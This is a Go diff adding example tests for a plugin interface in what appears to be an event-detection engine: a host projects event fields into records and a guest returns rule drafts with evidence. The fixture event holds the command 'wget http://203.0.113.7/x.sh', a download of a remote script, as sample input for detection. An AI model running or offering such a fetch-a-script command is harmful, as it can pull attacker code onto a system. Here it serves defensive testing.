@@ -37,3 +37,51 @@ func ExampleDecodeEvent() {
 	fmt.Println(err)
 	// Output: abi: event: field "source_id": missing required field
 }
+
+// The host projects the fields a plugin declared into a record (AppendRecord); the guest
+// reads them by index, without parsing anything (Record).
+func ExampleRecord() {
+	paths := []abi.Path{}
+	for _, f := range []string{"payload.command_text", "payload.args"} {
+		p, err := abi.ParsePath(f)
+		if err != nil {
+			panic(err)
+		}
+		paths = append(paths, p)
+	}
+	ev := abi.Event{SourceKind: "command", SourceID: "c1", Payload: map[string]any{
+		"command_text": "wget http://203.0.113.7/x.sh", "args": []any{"wget", "http://203.0.113.7/x.sh"}}}
+	data := abi.AppendRecord(nil, 0, paths, &ev)
+
+	var r abi.Record
+	if err := r.Reset(data); err != nil {
+		panic(err)
+	}
+	fmt.Println(r.String(0))
+	list := r.StringList(1)
+	for s, ok := list.Next(); ok; s, ok = list.Next() {
+		fmt.Println(" arg:", s)
+	}
+	// Output:
+	// wget http://203.0.113.7/x.sh
+	//  arg: wget
+	//  arg: http://203.0.113.7/x.sh
+}
+
+// A guest answers with drafts built in a ReplyBuilder: each names a configured rule and one
+// of its emits by index, with a scale and evidence by key index; the host decodes and bounds
+// them (DecodeReply).
+func ExampleReplyBuilder() {
+	var b abi.ReplyBuilder
+	b.Reset()
+	b.Draft(0, 0, 0.5)
+	b.EvidenceString(0, "wget")
+	drafts, err := abi.DecodeReply(b.Bytes(), abi.ReplyLimits{Emits: []int{1}, EvidenceKeys: 1}, nil)
+	if err != nil {
+		panic(err)
+	}
+	for _, d := range drafts {
+		fmt.Println(d.Rule, d.Emit, d.Scale, d.Evidence[0].Key, d.Evidence[0].Value)
+	}
+	// Output: 0 0 0.5 0 wget
+}
